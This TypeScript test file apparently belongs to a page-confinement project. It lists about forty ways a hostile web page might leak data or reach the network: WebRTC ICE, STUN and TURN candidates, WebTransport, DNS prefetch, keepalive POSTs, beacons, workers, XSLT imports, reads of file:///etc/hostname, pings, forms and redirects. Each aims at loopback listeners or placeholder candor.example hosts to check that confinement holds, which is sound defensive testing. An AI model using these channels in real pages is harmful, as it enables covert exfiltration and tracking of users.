/** What a page tries once it is not ours any more. To add an attack is to add a case. */

/** Where the test listens, on loopback. */
export interface Targets {
  readonly udp: number;
  readonly tcp: number;
}

export interface Attack {
  readonly name: string;
  /**
   * What shows that it works where nothing is confined, which the control sees: bytes or a connection at the test's own
   * listener, or a name that is asked for. Missing: this runtime refuses it anyway, or wants a person's gesture.
   */
  readonly seen?: 'udp' | 'tcp' | 'name';
  /** Runs in the page, so it may use nothing from outside but {@link arm}'s. Resolves when it has had its time. */
  readonly run: (to: Targets) => unknown;
}

declare global {
  /** Opens a peer connection and gathers candidates for a second. */
  var peer: (servers: RTCIceServer[], description?: (fingerprint: string) => string) => Promise<string>;
  var add: (tag: string, attributes: Record<string, string>) => HTMLElement;
  var inASecond: (answer?: string) => Promise<string>;
}

/** Gives a page the tools of {@link attacks}. */
export function arm(): void {
  globalThis.inASecond = (answer = 'done') => new Promise((resolve) => setTimeout(resolve, 1000, answer));
  globalThis.add = (tag, attributes) => {
    const element = document.createElement(tag);
    for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
    document.body.append(element);
    return element;
  };
  globalThis.peer = async (iceServers, description) => {
    const connection = new RTCPeerConnection({ iceServers });
    connection.createDataChannel('x');
    await connection.setLocalDescription(await connection.createOffer());
    if (description) {
      const sdp = description(new Array(32).fill('AA').join(':'));
      await connection.setRemoteDescription({ type: 'answer', sdp });
    }
    return await inASecond(connection.iceConnectionState);
  };
}

export const attacks: readonly Attack[] = [
  {
    name: 'WebRTC: what the page knows as ice-ufrag, to a UDP and a TCP candidate',
    seen: 'udp',
    run: ({ udp, tcp }) =>
      peer([], (fingerprint) =>
        [
          'v=0',
          'o=- 1 1 IN IP4 127.0.0.1',
          's=-',
          't=0 0',
          'a=group:BUNDLE 0',
          'm=application 9 UDP/DTLS/SCTP webrtc-datachannel',
          'c=IN IP4 0.0.0.0',
          'a=ice-ufrag:WHATTHEPAGEKNOWS',
          'a=ice-pwd:0123456789012345678901',
          `a=fingerprint:sha-256 ${fingerprint}`,
          'a=setup:active',
          'a=mid:0',
          'a=sctp-port:5000',
          `a=candidate:1 1 udp 2113937151 127.0.0.1 ${udp} typ host`,
          `a=candidate:2 1 tcp 2113937151 127.0.0.1 ${tcp} typ host tcptype passive`,
          '',
        ].join('\r\n'),
      ),
  },
  { name: 'WebRTC: STUN', seen: 'udp', run: ({ udp }) => peer([{ urls: `stun:127.0.0.1:${udp}` }]) },
  {
    name: 'WebRTC: STUN by a name',
    seen: 'name',
    run: () => peer([{ urls: 'stun:what-the-page-knows.stun.candor.example:3478' }]),
  },
  {
    name: 'WebRTC: TURN over UDP',
    seen: 'udp',
    run: ({ udp }) => peer([{ urls: `turn:127.0.0.1:${udp}?transport=udp`, username: 'u', credential: 'x' }]),
  },
  {
    name: 'WebRTC: TURN over TCP',
    seen: 'tcp',
    run: ({ tcp }) => peer([{ urls: `turn:127.0.0.1:${tcp}?transport=tcp`, username: 'u', credential: 'x' }]),
  },
  {
    name: 'WebRTC: TURN over TLS',
    seen: 'tcp',
    run: ({ tcp }) => peer([{ urls: `turns:127.0.0.1:${tcp}?transport=tcp`, username: 'u', credential: 'x' }]),
  },
  {
    name: 'WebRTC: TURN over TCP by a name',
    seen: 'name',
    run: () =>
      peer([
        { urls: 'turn:what-the-page-knows.turn.candor.example:3478?transport=tcp', username: 'u', credential: 'x' },
      ]),
  },
  {
    name: 'WebTransport',
    seen: 'udp',
    run: ({ udp }) => new WebTransport(`https://127.0.0.1:${udp}/`).ready.catch(() => {}),
  },
  {
    name: 'WebTransport to a name',
    seen: 'name',
    run: () => new WebTransport('https://what-the-page-knows.quic.candor.example:4433/').ready.catch(() => {}),
  },
  {
    name: 'dns-prefetch of a name',
    run: () => {
      add('link', { rel: 'dns-prefetch', href: '//what-the-page-knows.prefetch.candor.example' });
      return inASecond();
    },
  },
  {
    name: 'links to names',
    run: () => {
      add('a', { href: 'https://what-the-page-knows.link.candor.example/' }).textContent = 'link';
      add('meta', { 'http-equiv': 'x-dns-prefetch-control', content: 'on' });
      return inASecond();
    },
  },
  {
    name: 'preconnect',
    run: ({ tcp }) => {
      add('link', { rel: 'preconnect', href: `http://127.0.0.1:${tcp}` });
      add('link', { rel: 'preconnect', href: 'https://what-the-page-knows.connect.candor.example' });
      return inASecond();
    },
  },
  {
    name: 'links that load',
    seen: 'tcp',
    run: ({ tcp }) => {
      for (const rel of ['prefetch', 'prerender', 'preload', 'modulepreload', 'stylesheet', 'icon', 'manifest']) {
        add('link', { rel, as: 'script', href: `http://127.0.0.1:${tcp}/${rel}` });
      }
      return inASecond();
    },
  },
  {
    name: 'speculation rules',
    seen: 'tcp',
    run: ({ tcp }) => {
      const urls = [`http://127.0.0.1:${tcp}/speculation`, 'https://what-the-page-knows.rules.candor.example/'];
      const source = { source: 'list', urls, eagerness: 'immediate' };
      add('script', { type: 'speculationrules' }).textContent = JSON.stringify({
        prefetch: [source],
        prerender: [source],
      });
      return inASecond();
    },
  },
  { name: 'fetch', seen: 'tcp', run: ({ tcp }) => fetch(`http://127.0.0.1:${tcp}/fetch`, { mode: 'no-cors' }) },
  {
    name: 'fetch that outlives the page',
    seen: 'tcp',
    run: ({ tcp }) =>
      fetch(`http://127.0.0.1:${tcp}/`, { mode: 'no-cors', keepalive: true, method: 'POST', body: 'what it knows' }),
  },
  { name: 'fetch of a file', run: () => fetch('file:///etc/hostname').then((answer) => answer.text()) },
  {
    name: 'fetch of a name',
    seen: 'name',
    run: () => fetch('https://what-the-page-knows.fetch.candor.example/', { mode: 'no-cors' }),
  },
  {
    name: 'XMLHttpRequest',
    seen: 'tcp',
    run: ({ tcp }) => {
      const request = new XMLHttpRequest();
      request.open('GET', `http://127.0.0.1:${tcp}/xhr`);
      request.send();
      return inASecond();
    },
  },
  {
    name: 'WebSocket',
    seen: 'tcp',
    run: ({ tcp }) => {
      new WebSocket(`ws://127.0.0.1:${tcp}/`);
      return inASecond();
    },
  },
  {
    name: 'EventSource',
    seen: 'tcp',
    run: ({ tcp }) => {
      new EventSource(`http://127.0.0.1:${tcp}/events`);
      return inASecond();
    },
  },
  {
    name: 'a beacon',
    seen: 'tcp',
    run: ({ tcp }) => {
      navigator.sendBeacon(`http://127.0.0.1:${tcp}/beacon`, 'what the page knows');
      return inASecond();
    },
  },
  {
    name: 'pictures, media and embedded things',
    seen: 'tcp',
    run: ({ tcp }) => {
      for (const tag of ['img', 'video', 'audio', 'embed', 'iframe', 'script', 'track']) {
        add(tag, { src: `http://127.0.0.1:${tcp}/${tag}` });
      }
      add('object', { data: `http://127.0.0.1:${tcp}/object` });
      add('video', { poster: `http://127.0.0.1:${tcp}/poster` });
      return inASecond();
    },
  },
  {
    name: 'styles and fonts',
    seen: 'tcp',
    run: ({ tcp }) => {
      const at = (file: string) => `url(http://127.0.0.1:${tcp}/${file})`;
      const font = `@font-face { font-family: x; src: ${at('font')} }`;
      add('style', {}).textContent =
        `@import ${at('css')}; ${font} body { background: ${at('picture')}; font-family: x }`;
      return inASecond();
    },
  },
  {
    name: 'a frame of its own content, with a connection of its own',
    seen: 'tcp',
    run: ({ tcp }) => {
      const inner = add('iframe', {}) as HTMLIFrameElement;
      const server = { urls: `turn:127.0.0.1:${tcp}?transport=tcp`, username: 'u', credential: 'x' };
      const frame = inner.contentWindow as unknown as typeof globalThis;
      const connection = new frame.RTCPeerConnection({ iceServers: [server] });
      connection.createDataChannel('x');
      void connection.setLocalDescription();
      frame.fetch(`http://127.0.0.1:${tcp}/frame`).catch(() => {});
      return inASecond();
    },
  },
  {
    name: 'frames of data: and file:',
    seen: 'tcp',
    run: ({ tcp }) => {
      add('iframe', { src: `data:text/html,<img src=http://127.0.0.1:${tcp}/data>` });
      add('iframe', { src: 'file:///etc/hostname' });
      return inASecond();
    },
  },
  {
    name: 'workers',
    seen: 'tcp',
    run: ({ tcp }) => {
      const script = `fetch('http://127.0.0.1:${tcp}/worker'); new WebSocket('ws://127.0.0.1:${tcp}/worker')`;
      const address = URL.createObjectURL(new Blob([script]));
      new Worker(address);
      new SharedWorker(address);
      return inASecond();
    },
  },
  { name: 'a service worker', run: () => navigator.serviceWorker.register('/worker.js') },
  {
    name: 'a style sheet of XML that imports',
    run: ({ tcp }) => {
      const parse = (text: string) => new DOMParser().parseFromString(text, 'text/xml');
      const processor = new XSLTProcessor();
      const address = `http://127.0.0.1:${tcp}/xsl`;
      const space = 'http://www.w3.org/1999/XSL/Transform';
      processor.importStylesheet(
        parse(`<x:stylesheet version="1.0" xmlns:x="${space}"><x:import href="${address}"/></x:stylesheet>`),
      );
      processor.transformToDocument(parse('<x/>'));
      return inASecond();
    },
  },
  {
    name: 'a sign-in with another site',
    seen: 'tcp',
    run: ({ tcp }) => {
      const provider = { configURL: `http://127.0.0.1:${tcp}/fedcm`, clientId: 'what the page knows' };
      navigator.credentials.get({ identity: { providers: [provider] } } as CredentialRequestOptions).catch(() => {});
      return inASecond();
    },
  },
  {
    name: 'a payment',
    run: ({ tcp }) => {
      const total = { label: 'x', amount: { currency: 'EUR', value: '1' } };
      const request = new PaymentRequest([{ supportedMethods: `http://127.0.0.1:${tcp}/pay` }], { total });
      request.canMakePayment().catch(() => {});
      request.show().catch(() => {});
      return inASecond();
    },
  },
  {
    name: 'a key for another site',
    run: () => {
      const publicKey = {
        challenge: new Uint8Array(8),
        rp: { name: 'x', id: 'webauthn.candor.example' },
        user: { id: new Uint8Array(8), name: 'x', displayName: 'x' },
        pubKeyCredParams: [{ type: 'public-key' as const, alg: -7 }],
      };
      navigator.credentials.create({ publicKey }).catch(() => {});
      return inASecond();
    },
  },
  {
    name: 'the place of this computer',
    run: () => {
      navigator.geolocation.getCurrentPosition(() => {});
      return inASecond();
    },
  },
  {
    name: 'speech that others recognise',
    run: () => {
      const recognition = new (
        globalThis as unknown as { webkitSpeechRecognition: new () => { start(): void } }
      ).webkitSpeechRecognition();
      recognition.start();
      return inASecond();
    },
  },
  {
    name: 'a screen elsewhere',
    run: ({ tcp }) => {
      const { PresentationRequest } = globalThis as unknown as {
        PresentationRequest: new (urls: string[]) => { getAvailability(): Promise<unknown> };
      };
      new PresentationRequest([`http://127.0.0.1:${tcp}/screen`]).getAvailability().catch(() => {});
      return inASecond();
    },
  },
  {
    name: 'words to spell',
    run: () => {
      const field = add('textarea', { spellcheck: 'true', lang: 'en' }) as HTMLTextAreaElement;
      field.value = 'wat teh paeg knwos';
      field.focus();
      return inASecond();
    },
  },
  {
    name: 'another window',
    seen: 'tcp',
    run: ({ tcp }) => {
      open(`http://127.0.0.1:${tcp}/window`);
      const blank = open('about:blank');
      blank?.fetch(`http://127.0.0.1:${tcp}/blank`).catch(() => {});
      return inASecond();
    },
  },
  {
    name: 'a mail',
    run: () => {
      location.href = 'mailto:somebody@candor.example?subject=what%20the%20page%20knows';
      return inASecond();
    },
  },
  {
    name: 'a ping',
    seen: 'tcp',
    run: ({ tcp }) => {
      add('a', { href: '#there', ping: `http://127.0.0.1:${tcp}/ping` }).click();
      return inASecond();
    },
  },
  {
    name: 'a download',
    seen: 'tcp',
    run: ({ tcp }) => {
      add('a', { href: `http://127.0.0.1:${tcp}/download`, download: 'x' }).click();
      return inASecond();
    },
  },
  {
    name: 'a form',
    seen: 'tcp',
    run: ({ tcp }) => {
      const form = add('form', { action: `http://127.0.0.1:${tcp}/form`, method: 'post' }) as HTMLFormElement;
      form.submit();
      return inASecond();
    },
  },
  {
    name: 'a refresh',
    seen: 'tcp',
    run: ({ tcp }) => {
      add('meta', { 'http-equiv': 'refresh', content: `0;url=http://127.0.0.1:${tcp}/refresh` });
      return inASecond();
    },
  },
  {
    name: 'another page',
    seen: 'tcp',
    run: ({ tcp }) => {
      location.href = `http://127.0.0.1:${tcp}/page`;
      return inASecond();
    },
  },
];
